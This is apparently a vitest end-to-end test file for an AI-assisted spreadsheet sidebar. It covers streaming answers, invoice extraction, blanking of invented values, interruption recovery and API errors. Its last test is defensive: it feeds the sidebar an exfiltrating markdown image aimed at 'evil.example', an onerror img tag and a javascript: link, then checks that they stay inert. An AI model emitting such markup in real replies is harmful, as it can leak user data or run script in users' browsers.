import { expect } from "vitest";
import { testWithModel as test } from "./test.ts";

const mail = `Dear team, Nordlicht bills us EUR 1,240.00 under number 0004711, due on 2 April 2026.
Baxter wants USD 860.50 for invoice 0098123 by 23 March 2026. ${"Please pay both in time. ".repeat(20)}`;

const invoices = {
  title: "Invoices",
  columns: [
    { name: "Number", type: "id" },
    { name: "Amount", type: "currency" },
    { name: "Due", type: "date" },
  ],
  rows: [
    ["0004711", "EUR 1,240.00", "2 April 2026"],
    ["0098123", "USD 860.50", "23 March 2026"],
  ],
};

test("the header names the model, and nothing says that none is connected", async ({ sheet }) => {
  await sheet.page.getByRole("main", { name: "playground" }).getByText("gpt-5-mini").waitFor();
  expect(await sheet.page.getByText("No model is connected").count()).toBe(0);
  expect(await sheet.sidebar.getByText("No model is connected").count()).toBe(0);
});

test("a question is answered with text that streams", async ({ sheet, model }) => {
  const answer = `Paris. ${"It lies on the Seine. ".repeat(30)}`;
  model.set({ answer: () => ({ reply: answer, tables: [] }), delayMs: 60 });
  await sheet.send("What is the capital of France?");
  await sheet.sidebar.getByText(/^Paris\. It lies/).waitFor();
  await sheet.button("Stop").waitFor();
  await sheet.button("Send").waitFor();
  const said = await sheet.sidebar.getByText(/^Paris\. It lies/).textContent();
  expect(said?.trim()).toBe(answer.trim());
});

test("rows stream in, are typed from the mail's own words and go into the sheet", async ({
  sheet,
  model,
}) => {
  model.set({
    answer: () => ({ reply: "Two invoices.", tables: [invoices] }),
    delayMs: 160,
    deltaCharacters: 8,
  });
  await sheet.paste(mail);
  await sheet.send("Number, amount and due date of every invoice");
  await sheet.card().getByRole("cell", { name: "0004711" }).waitFor();
  expect(await sheet.card().getByRole("button", { name: "Insert" }).count()).toBe(0);
  // Prose has no rows that code could count: no "of 2", whatever the model says.
  await sheet.card().getByText("2 rows", { exact: true }).waitFor();
  await sheet.insert();
  expect(await sheet.values("A1:C3")).toEqual([
    ["Number", "Amount", "Due"],
    ["0004711", 1240, 46114],
    ["0098123", 860.5, 46104],
  ]);
  expect(await sheet.shown("B2:B3")).toEqual([["€1,240.00"], ["$860.50"]]);
});

test("a value that is not in the source goes in blank, and the sidebar says so before", async ({
  sheet,
  model,
}) => {
  const invented = { ...invoices, rows: [["0004711", "EUR 9,999.00", "2 April 2026"]] };
  model.set({ answer: () => ({ reply: "One invoice.", tables: [invented] }) });
  await sheet.paste(mail);
  await sheet.send("The invoices");
  await sheet.card().getByText("1 to check").waitFor();
  await sheet.card().getByRole("button", { name: "Insert" }).click();
  await sheet.sidebar.getByText("1 cell stays blank: its value was not found.").waitFor();
  await sheet.button("Insert 1 row at A1").click();
  await sheet.status(/^Added to /).waitFor();
  expect(await sheet.values("A2:C2")).toEqual([["0004711", null, 46114]]);
});

test("Stop keeps the rows that came and says so", async ({ sheet, model }) => {
  const rows = Array.from({ length: 40 }, (_, at) => [`${1_000 + at}`, "EUR 1.00", "2 April 2026"]);
  model.set({
    answer: () => ({ reply: "Many.", tables: [{ ...invoices, rows }] }),
    delayMs: 40,
    deltaCharacters: 16,
  });
  await sheet.send("Forty invoices");
  await sheet.card().getByRole("cell", { name: "1001" }).waitFor();
  await sheet.button("Stop").click();
  await sheet.sidebar.getByText("Stopped. What came so far is kept.", { exact: true }).waitFor();
  await model.requests[0]?.closed;
  await sheet.reload();
  await sheet.button("History").click();
  await sheet.sidebar
    .getByRole("dialog")
    .getByRole("button", { name: /^Forty invoices/ })
    .click();
  await sheet.card().getByRole("cell", { name: "1001" }).waitFor();
});

test("a backend killed in the middle of an answer is told within 5 s, and Resume brings the same rows", async ({
  sheet,
  app,
  model,
}) => {
  const rows = Array.from({ length: 9 }, (_, at) => [`${1_000 + at}`, "EUR 1.00", "2 April 2026"]);
  model.set({
    answer: () => ({ reply: "Nine invoices.", tables: [{ ...invoices, rows }] }),
    delayMs: 300,
    deltaCharacters: 40,
  });
  await sheet.send("The invoices, please");
  await sheet.card().getByRole("cell", { name: "1001" }).waitFor();
  await app.kill();
  await sheet.alert("The answer was interrupted.").waitFor({ timeout: 5_000 });
  const before = await sheet.rowsOfTable();
  await app.restart();
  await sheet.button("Resume").click();
  await sheet.alert(/interrupted.*ask again/).waitFor();
  expect(await sheet.rowsOfTable()).toEqual(before);
  await sheet.reload();
  await sheet.button("History").click();
  await sheet.sidebar
    .getByRole("dialog")
    .getByRole("button", { name: /^The invoices, please/ })
    .click();
  await sheet.card().getByRole("cell", { name: "1001" }).waitFor();
});

test("a wrong key is said, and the model is asked once only", async ({ sheet, model }) => {
  model.set({ fault: { kind: "status", status: 401, code: "invalid_api_key" } });
  await sheet.send("What is the capital of France?");
  await sheet.alert("The model refused the server's key.").waitFor();
  expect(model.requests).toHaveLength(1);
  expect(await sheet.sidebar.getByText("test-key").count()).toBe(0);
});

test("an account without credit is said, and not asked again", async ({ sheet, model }) => {
  model.set({ fault: { kind: "status", status: 429, code: "insufficient_quota" } });
  await sheet.send("What is the capital of France?");
  await sheet.alert("out of credit").waitFor();
  expect(model.requests).toHaveLength(1);
});

test("markup in an answer stays inert, and no picture is fetched", async ({ sheet, model }) => {
  const reply =
    '![x](https://evil.example/?d=1) <img src="https://evil.example/i" onerror="document.title=1"> [go](javascript:alert(1))';
  model.set({ answer: () => ({ reply, tables: [] }), deltaCharacters: 3 });
  const requested: string[] = [];
  sheet.page.on("request", (request) => requested.push(request.url()));
  await sheet.send("Show me");
  await sheet.sidebar.getByText(/go/).last().waitFor();
  await sheet.button("Send").waitFor();
  expect(requested.filter((url) => url.includes("evil.example"))).toEqual([]);
  expect(await sheet.sidebar.getByRole("img", { name: "x" }).count()).toBe(0);
  expect(await sheet.sidebar.locator('a[href^="javascript:" i]').count()).toBe(0);
});
